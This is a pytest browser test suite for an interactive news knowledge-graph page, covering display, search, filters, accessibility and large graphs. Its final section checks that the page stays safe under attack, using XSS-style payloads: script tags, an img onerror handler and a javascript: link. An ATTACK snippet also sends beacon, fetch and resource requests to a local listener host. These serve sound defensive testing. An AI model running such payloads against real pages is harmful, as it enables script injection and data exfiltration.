"""The page in a browser: what a reader can do with it, and what hostile text cannot.

The fixtures (``conftest``) say what browser is needed and what happens where there is none.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import combinations
from pathlib import Path
from typing import TYPE_CHECKING, Any, ClassVar

import pytest
from tests.graph.show.page_fixtures import BASE, fact, hostile_facts, news_facts, random_facts
from tests.graph.show.page_view import PHONE, Opener, View

from newsweave.graph.facts import Fact, GraphEntity
from newsweave.graph.show.page import write_page

if TYPE_CHECKING:
    from playwright.sync_api import Browser

pytestmark = pytest.mark.browser


def one_fact(sentence: str = "\U0001f680\U0001f680 Alda Ltd bought Brenn & Co.", **more: Any) -> Fact:
    a, b = GraphEntity(f"{BASE}a", "Alda Ltd", "Company", ("Alda",)), GraphEntity(f"{BASE}b", "Brenn & Co", "Company")
    return fact(a, "acquired", b, sentence, **more)


# ---- what is shown


def test_counts_on_the_page_equal_the_data(news: View) -> None:
    data = json.loads(news.js("() => document.getElementById('data').textContent"))
    held = len(data["edges"]) + len(data["values"])
    assert held == news.report.facts == len(news_facts())
    assert news.text("#count") == f"{news.report.entities} entities · {held} facts"
    assert news.js("() => newsweave.drawn.edges.length") == len(data["edges"])
    assert news.js("() => newsweave.network.body.data.nodes.length") == news.report.entities
    assert news.text("#panel .figures").split()[:3:2] == [str(news.report.entities), str(held)]


def overlaps(labels: list[dict[str, Any]]) -> list[tuple[Any, Any]]:
    def meet(a: dict[str, float], b: dict[str, float]) -> bool:
        return a["left"] < b["right"] and b["left"] < a["right"] and a["top"] < b["bottom"] and b["top"] < a["bottom"]

    return [(a["id"], b["id"]) for a, b in combinations(labels, 2) if meet(a["box"], b["box"])]


def test_labels_of_overview_and_focus_are_many_large_and_apart(news: View) -> None:
    for go, least in (("newsweave.showOverview()", 45), ("newsweave.focusOn(0)", 20)):
        news.js(f"() => {go}")
        labels = news.labels()
        named = [label for label in labels if label["kind"] == "node"]
        assert len(named) >= least
        assert overlaps(labels) == []
        assert min(label["box"]["bottom"] - label["box"]["top"] for label in labels) >= 14.9
        assert all(label["box"]["left"] >= 0 and label["box"]["right"] <= 820 for label in labels), "clipped"
    news.js("() => newsweave.showOverview()")
    assert set(range(12)) <= {label["id"] for label in news.labels() if label["kind"] == "node"}


def test_each_status_has_a_line_of_its_own(news: View) -> None:
    styles = news.js(
        """() => Object.fromEntries(newsweave.drawn.edges.map(({fact}) => {
            const {dashes, color} = newsweave.network.body.data.edges.get(fact.index);
            return [fact.status, [dashes ? dashes.length : 0, color.color]];
        }))"""
    )
    assert set(styles) == {"asserted", "reported", "planned", "possible", "negated"}
    assert len({tuple(style) for style in styles.values()}) == 5
    assert {status: style[0] for status, style in styles.items()} == {
        "asserted": 0, "negated": 0, "reported": 4, "planned": 2, "possible": 2,
    }  # fmt: skip
    legend = news.js("() => [...document.querySelectorAll('#filters svg.stroke')].length")
    assert legend == 5


def test_values_stand_on_the_map_in_focus_only(news: View) -> None:
    squares = "() => newsweave.network.body.data.nodes.get().filter(n => n.shape === 'square').length"
    assert news.js(squares) == 0
    news.js("i => newsweave.focusOn(i)", news.number("Kestrel Pay"))
    assert news.js(squares) == 3
    assert "$842 million" in news.text("#panel")


def test_facts_between_the_same_two_are_bent_apart(news: View) -> None:
    maren, kestrel = news.number("Maren Ives"), news.number("Kestrel Pay")
    bends = news.js(
        "([a, b]) => newsweave.drawn.edges.filter(e => e.from === a && e.to === b).map(e => e.bend)", [maren, kestrel]
    )
    assert len(bends) == 2 and len(set(bends)) == 2
    straight = news.js("() => newsweave.drawn.edges.filter(e => !e.bend).length")
    assert straight > 80


# ---- from the map to the sentence


def test_a_click_on_an_edge_shows_its_sentence(news: View) -> None:
    index = news.js("() => newsweave.facts.find(f => f.label === 'signed MOU with').index")
    news.js("i => newsweave.focusOn(i)", news.number("Kestrel Pay"))
    news.click_edge(index, along=0.85)
    panel = news.text("#panel")
    assert "Kestrel Pay signed a memorandum of understanding with Bank of Ostravia" in panel
    assert news.text("#panel h2") == "Kestrel Pay signed MOU with Bank of Ostravia"
    for shown in ("asserted", "confidence 95%", "2 documents", "2024-03-11", "QR payments", "2 sentences say so"):
        assert shown in panel, shown
    for shown in ("The Ostravian Courier", "Kestrel Pay: signed agreement with Bank of Ostravia", "2024-01-01"):
        assert shown in news.text("#panel .evidence"), shown


def test_a_click_on_the_only_edge_of_the_overview(opened: Opener) -> None:
    view = opened([one_fact(status="planned", by="a clerk", qualifiers={"amount": "5 USD"})])
    view.click_edge(0, along=0.7)
    assert "Alda Ltd bought Brenn & Co." in view.text("#panel blockquote")
    table = view.text("#panel dl")
    assert "a clerk" in table and "5 USD" in table
    assert "planned" in view.text("#panel .chips")


def test_marks_count_code_points(opened: Opener) -> None:
    view = opened([one_fact()])
    view.js("() => newsweave.openView({kind: 'fact', index: 0})")
    marks = view.js("() => [...document.querySelectorAll('#panel mark')].map(m => [m.className, m.textContent])")
    assert marks == [["subject", "Alda Ltd"], ["object", "Brenn & Co"]]
    assert view.js("() => document.querySelector('#panel blockquote').textContent") == one_fact().evidence[0].text


def test_overlapping_subject_and_object_are_marked_as_both(opened: Opener) -> None:
    inner, outer = GraphEntity(f"{BASE}i", "Alda", "Company"), GraphEntity(f"{BASE}o", "Alda Bank", "Bank")
    view = opened([fact(inner, "subsidiary_of", outer, "The Alda Bank unit grew.")])
    view.js("() => newsweave.openView({kind: 'fact', index: 0})")
    marks = view.js("() => [...document.querySelectorAll('#panel mark')].map(m => [m.className, m.textContent])")
    assert marks == [["both", "Alda"], ["object", " Bank"]]


def test_a_click_on_an_entity_lists_its_facts_each_one_click_from_its_sentence(news: View) -> None:
    ferrow = news.number("Ferrow Bank")
    news.click_node(ferrow)
    assert news.text("#panel h2") == "Ferrow Bank"
    assert "Bank" in news.text("#panel .kind")
    assert "also Ferrow" in news.text("#panel")
    rows = news.page.locator("#panel ul.rows button")
    facts = news.js("i => newsweave.facts.filter(f => f.from === i || f.to === i).length", ferrow)
    assert rows.count() == facts == 9
    for place in range(facts):
        rows.nth(place).click()
        assert news.page.locator("#panel blockquote").count() >= 1
        assert "Ferrow Bank" in news.text("#panel blockquote")
        news.page.get_by_role("button", name="← Back").click()
    assert news.text("#panel h2") == "Ferrow Bank"


def test_a_double_click_leads_to_the_neighbourhood_and_back_and_escape_lead_away(news: View) -> None:
    at = news.spot(f"newsweave.network.getPosition({news.number('Halden Group')})")
    news.page.mouse.dblclick(*at)
    assert news.text("#mode-text") == "Around Halden Group"
    news.page.get_by_role("button", name="Two hops").click()
    more = news.js("() => newsweave.drawn.order.length")
    news.page.get_by_role("button", name="One hop").click()
    assert 8 < news.js("() => newsweave.drawn.order.length") < more
    news.page.keyboard.press("Escape")
    assert news.js("() => newsweave.state.focus") is None
    assert news.text("#panel h2") == "What this graph holds"
    news.page.get_by_role("button", name="← Back").click()
    assert news.text("#mode-text") == "Around Halden Group"


def test_links_are_of_the_web_and_give_nothing_away(news: View) -> None:
    news.js("() => newsweave.openView({kind: 'fact', index: 0})")
    links = news.js("() => [...document.querySelectorAll('a')].map(a => [a.href, a.target, a.rel])")
    assert links and all(h.startswith("https://news.example/") for h, _, _ in links)
    assert {(target, rel) for _, target, rel in links} == {("_blank", "noopener noreferrer")}


# ---- search


def test_search_by_keyboard_leads_to_the_neighbourhood(news: View) -> None:
    news.page.keyboard.press("/")
    news.page.keyboard.type("conduct")
    assert news.page.get_attribute("#query", "aria-expanded") == "true"
    news.page.keyboard.press("Enter")
    assert news.text("#mode-text") == "Around Ostravian Conduct Authority"
    assert news.text("#panel h2") == "Ostravian Conduct Authority"
    assert news.js("() => document.activeElement === document.querySelector('#panel h2')")
    assert news.page.is_hidden("#hits")


def test_search_finds_aliases_without_accents_and_moves_with_arrows(opened: Opener) -> None:
    view = opened([*news_facts(), fact(GraphEntity(f"{BASE}z", "Café Zürich", "Company"), "sued",
                                       GraphEntity(f"{BASE}y", "Yx", "Company"), "S.", number=900)])  # fmt: skip
    view.page.fill("#query", "zurich cafe")
    assert view.text("#hits [role=option]").startswith("Café Zürich")
    view.page.fill("#query", "kestrel")
    assert view.text("#hits [aria-selected=true]").startswith("Kestrel Pay")
    view.page.press("#query", "ArrowDown")
    assert view.text("#hits [aria-selected=true]").startswith("Kestrel Cloud")
    active = view.page.get_attribute("#query", "aria-activedescendant")
    assert active and view.text(f"#{active}").startswith("Kestrel Cloud")
    view.page.press("#query", "ArrowUp")
    view.page.press("#query", "ArrowUp")
    assert (
        view.js("() => [...document.querySelectorAll('#hits [role=option]')].at(-1).getAttribute('aria-selected')")
        == "true"
    )
    view.page.fill("#query", "boo")
    assert "Bank of Ostravia" in view.text("#hits [aria-selected=true]")


@pytest.mark.parametrize("words", ["sondre & datter", "sondre and dat", "SØNDRE", "lodz strasse"])
def test_search_finds_letters_that_are_no_accents(opened: Opener, words: str) -> None:
    ends = (GraphEntity(f"{BASE}z", "Søndre & Datter", "Company"), GraphEntity(f"{BASE}y", "Łódź Straße", "Company"))
    view = opened([*news_facts(), fact(ends[0], "sued", ends[1], "S.", number=900)])
    view.page.fill("#query", words)
    assert view.text("#hits [role=option]").startswith("Łódź" if "lodz" in words else "Søndre")


def test_search_finds_what_facts_and_sentences_say(news: View) -> None:
    news.page.fill("#query", "signed mou ostravia")
    news.page.press("#query", "Enter")
    assert news.text("#panel h2") == "Kestrel Pay signed MOU with Bank of Ostravia"
    news.page.fill("#query", "disused cannery lumora")
    news.page.press("#query", "Enter")
    assert "in a disused cannery" in news.text("#panel blockquote")
    news.page.fill("#query", "qqqq")
    assert news.text("#hits") == "Nothing found"
    news.page.press("#query", "Escape")
    assert news.page.is_hidden("#hits")


def test_a_sentence_that_says_several_things_lists_them(opened: Opener) -> None:
    a, b, c = (GraphEntity(f"{BASE}{n}", n, "Company") for n in ("Aax", "Bbx", "Ccx"))
    sentence = "Aax sued Bbx and Ccx."
    facts = [fact(a, "sued", b, sentence, number=3), fact(a, "sued", c, sentence, number=3)]
    view = opened(facts)
    view.page.fill("#query", "aax sued bbx and")
    view.page.locator("#hits [role=option]").last.click()
    assert view.text("#panel h2") == "It says 2 things"
    view.page.locator("#panel ul.rows button").first.click()
    assert "In the same sentence" in view.text("#panel")


# ---- filters


def test_filter_by_status(news: View) -> None:
    negated = sum(f.status == "negated" for f in news_facts())
    news.choice("negated").get_by_role("checkbox").uncheck()
    assert f"{news.report.facts - negated} of {news.report.facts} facts" in news.text("#count")
    assert news.js("() => newsweave.drawn.edges.filter(e => e.fact.status === 'negated').length") == 0
    news.choice("planned").hover()
    news.choice("planned").get_by_role("button").click()
    planned = sum(f.status == "planned" for f in news_facts())
    assert f"{planned} of {news.report.facts} facts" in news.text("#count")
    assert news.js("() => newsweave.drawn.edges.every(e => e.fact.status === 'planned')")
    news.page.get_by_role("button", name="All: Status of facts").click()
    assert news.text("#count").endswith(f" · {news.report.facts} facts")


def test_filter_by_class_and_relation(news: View) -> None:
    news.choice("Person").get_by_role("checkbox").uncheck()
    assert news.js("() => newsweave.drawn.order.every(i => newsweave.nodes[i].type !== 'Person')")
    news.choice("acquired").hover()
    news.choice("acquired").get_by_role("button").click()
    acquired = sum(f.relation == "acquired" for f in news_facts())
    assert f" {acquired} of " in news.text("#count")
    for box in news.page.locator("section[aria-label='Status of facts'] input").all():
        box.uncheck()
    assert news.text("#mode-text") == "The filters let nothing through."
    assert "0 of 61 entities · 0 of 117 facts" in news.text("#count")


# ---- light, dark, small, keyboard


CONTRAST = """() => {
    const linear = v => v <= 10 ? v / 255 / 12.92 : ((v / 255 + 0.055) / 1.055) ** 2.4;
    const light = c => {
        const [r, g, b] = c.match(/[\\d.]+/g).map(linear);
        return 0.2126 * r + 0.7152 * g + 0.0722 * b;
    };
    const probe = document.body.appendChild(document.createElement("i"));
    const value = name => { probe.style.color = `var(--${name})`; return light(getComputedStyle(probe).color); };
    const ratio = (a, b) => (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    const pairs = [["text", "page"], ["quiet", "page"], ["quiet", "raised"], ["accent", "page"],
        ["text", "mark-subject"], ["text", "mark-object"], ["text", "mark-both"],
        ["edge-negated", "page"], ["edge-possible", "page"], ["edge-planned", "page"]];
    return Object.fromEntries(pairs.map(([a, b]) => [`${a} on ${b}`, ratio(value(a), value(b))]));
}"""


@pytest.mark.parametrize("dark", [False, True])
def test_the_theme_is_the_systems_until_changed_and_readable(opened: Opener, dark: bool) -> None:
    view = opened(news_facts(), dark=dark)
    background = "() => getComputedStyle(document.body).backgroundColor"
    before = view.js(background)
    assert view.js("() => document.documentElement.dataset.theme") == ("dark" if dark else "light")
    assert (before == "rgb(255, 255, 255)") is not dark
    for _ in range(2):
        assert {pair: ratio for pair, ratio in view.js(CONTRAST).items() if ratio < 4.5} == {}
        view.page.click("#theme")
    assert view.js(background) == before
    view.page.keyboard.press("d")
    assert view.js(background) != before


@pytest.mark.parametrize("which", ["news", "hostile"])
def test_a_telephone_shows_everything_without_scrolling_sideways(opened: Opener, which: str) -> None:
    view = opened(news_facts() if which == "news" else hostile_facts(), size=PHONE, title="A rather long title " * 6)
    for go in ("0", "newsweave.focusOn(0)", "newsweave.openView({kind: 'fact', index: 0})", "newsweave.showOverview()"):
        view.js(f"() => {{ {go} }}")
        assert view.js("() => document.documentElement.scrollWidth") <= PHONE[0]
    stage = view.page.locator("#stage").bounding_box()
    assert stage and stage["width"] >= 380 and stage["height"] >= 400 and stage["y"] < 200
    assert view.page.is_hidden("#filters")
    view.page.click("#toggle-filters")
    assert view.page.is_visible("#filters")
    assert view.js("() => document.documentElement.scrollWidth") <= PHONE[0]


def test_every_control_has_a_name_and_the_keys_reach_it(news: View) -> None:
    nameless = news.js(
        """() => [...document.querySelectorAll('button, input, [role]')]
            .filter(e => !['aria-label', 'aria-labelledby', 'hidden'].some(name => e.hasAttribute(name)))
            .filter(e => !(e.textContent.trim() || e.closest('label')?.textContent.trim() || e.id === 'mode-text'))
            .map(e => e.outerHTML.slice(0, 80))"""
    )
    assert nameless == []
    assert news.js("() => [...document.querySelectorAll('[tabindex]')].every(e => e.tabIndex <= 0)")
    where = "() => document.activeElement.closest('[id]')?.id"
    news.page.keyboard.press("Tab")
    news.page.keyboard.press("Enter")
    reached = [news.js(where)]
    for _ in range(7):
        news.page.keyboard.press("Tab")
        reached.append(news.js(where))
    assert reached == ["network", "zoom-in", "zoom-out", "fit", "time", "time", "panel", "panel"]
    news.page.focus("#query")
    for expected in ("save", "theme", "choose-sources"):
        news.page.keyboard.press("Tab")
        assert news.js(where) == expected


def test_the_map_moves_and_zooms_by_keyboard(news: View) -> None:
    news.page.focus("#network")
    place = "() => [newsweave.network.getViewPosition().x, newsweave.network.getScale()]"
    x, scale = news.js(place)
    news.page.keyboard.press("ArrowRight")
    news.page.keyboard.press("+")
    moved, larger = news.js(place)
    assert moved > x and larger > scale
    news.page.keyboard.press("f")
    assert news.js(place) == pytest.approx([x, scale])


def test_going_on_by_keyboard_keeps_the_place(news: View) -> None:
    news.page.locator("#panel ul.rows button").first.press("Enter")
    assert news.js("() => document.activeElement.tagName + document.activeElement.textContent") == "H2Kestrel Pay"


def test_an_empty_graph_says_so(opened: Opener) -> None:
    view = opened([], title="Nothing <script>window.pwned = 1</script>", dark=True)
    assert "No facts" in view.text("body")
    assert view.text("h1") == "Nothing <script>window.pwned = 1</script>"
    assert view.js("() => getComputedStyle(document.body).backgroundColor") == "rgb(16, 21, 28)"


# ---- hostile text


def test_hostile_text_is_inert_wherever_it_is_shown(opened: Opener) -> None:
    view = opened(hostile_facts(), title="</title><script>window.pwned = 'title'</script><img src=x>")
    counts = view.js("() => [newsweave.nodes.length, newsweave.facts.length]")
    assert counts == [view.report.entities, view.report.facts]
    for index in range(counts[0]):
        view.js("i => newsweave.focusOn(i)", index)
    for index in range(counts[1]):
        view.js("index => newsweave.openView({kind: 'fact', index})", index)
        view.js("() => document.querySelectorAll('#panel a').forEach(a => { throw new Error(a.href) })")
    view.js("() => newsweave.showOverview()")
    view.page.mouse.move(*view.spot("newsweave.network.getPosition(0)"))
    view.page.wait_for_selector(".vis-tooltip", state="visible")
    for words in ("img", "script", "onmouse", "proto", "href"):
        view.page.fill("#query", words)
        assert view.page.locator("#hits [role=option]").count() > 0
    assert view.js("() => window.pwned") is None
    strange = "img, iframe, object, embed, a, base, form, [onmouseover], [onerror]"
    assert view.page.locator(strange).count() == 0
    assert view.js("() => document.scripts.length") == 3
    assert view.js("() => document.title").startswith("</title><script>")


class Listener(BaseHTTPRequestHandler):
    """Answers everything and remembers what was asked."""

    asked: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[str]:
    Listener.asked.clear()
    server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


ATTACK = """async host => {
    const attempt = async act => { try { await act(); } catch {} };
    const put = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
    await attempt(() => put("script", { textContent: "window.pwned = 1" }));
    await attempt(() => { document.body.innerHTML += "<img src=x onerror='window.pwned = 2'>"; });
    await attempt(() => put("img", { src: host + "/image" }));
    await attempt(() => put("link", { rel: "stylesheet", href: host + "/sheet" }));
    await attempt(() => put("iframe", { src: host + "/frame" }));
    await attempt(() => navigator.sendBeacon(host + "/beacon", "x"));
    await attempt(() => fetch(host + "/fetch", { mode: "no-cors" }));
    await attempt(() => Object.assign(document.createElement("a"), { href: "javascript:window.pwned = 3" }).click());
    await new Promise(done => setTimeout(done, 200));
}"""


def test_the_second_wall_holds_where_the_first_would_fall(browser: Browser, listener: str, tmp_path: Path) -> None:
    report = write_page(news_facts(), tmp_path / "wall.html", title="Wall")
    page = browser.new_page()
    page.goto(report.path.as_uri())
    page.evaluate(ATTACK, listener)
    assert page.evaluate("() => window.pwned") is None
    assert Listener.asked == []
    bare = tmp_path / "bare.html"
    bare.write_text("<body></body>", "utf-8")
    page.goto(bare.as_uri())
    page.evaluate(ATTACK, listener)
    assert page.evaluate("() => window.pwned") is not None, "the attack itself must work"
    assert {"/image", "/sheet", "/frame", "/beacon", "/fetch"} <= set(Listener.asked)
    page.close()


# ---- large graphs


def test_two_thousand_entities_open_with_an_overview(opened: Opener) -> None:
    view = opened(random_facts(2000))
    assert view.report.bytes <= 2_500_000
    labels = [label for label in view.labels() if label["kind"] == "node"]
    assert len(labels) >= 40
    assert overlaps(labels) == []
    assert "The 150 most connected of 2,000 entities" in view.text("#mode-text")
    view.js("() => document.querySelector('.choice input').click()")
    view.page.get_by_role("button", name="All: Status of facts").click()
    view.js("() => newsweave.openView({kind: 'entity', index: 1999})")
    assert view.js("() => newsweave.network.body.data.nodes.get(1999) !== null")
    assert view.js("() => newsweave.network.getSelectedNodes()") == [1999]
    view.js("() => newsweave.showOverview()")
    rest = view.js("() => [...newsweave.nodes.keys()].find(i => i > 160)")
    assert view.js("i => newsweave.network.body.data.nodes.get(i)", rest) is None


def test_ten_thousand_entities_open(opened: Opener) -> None:
    """How quick such a page is, ``benchmarks/page.py`` says."""
    view = opened(random_facts(10_000))
    assert view.report.bytes <= 10_000_000
    view.page.wait_for_function("() => newsweave.labels().length > 0")
    assert "of 10,000 entities" in view.text("#mode-text")
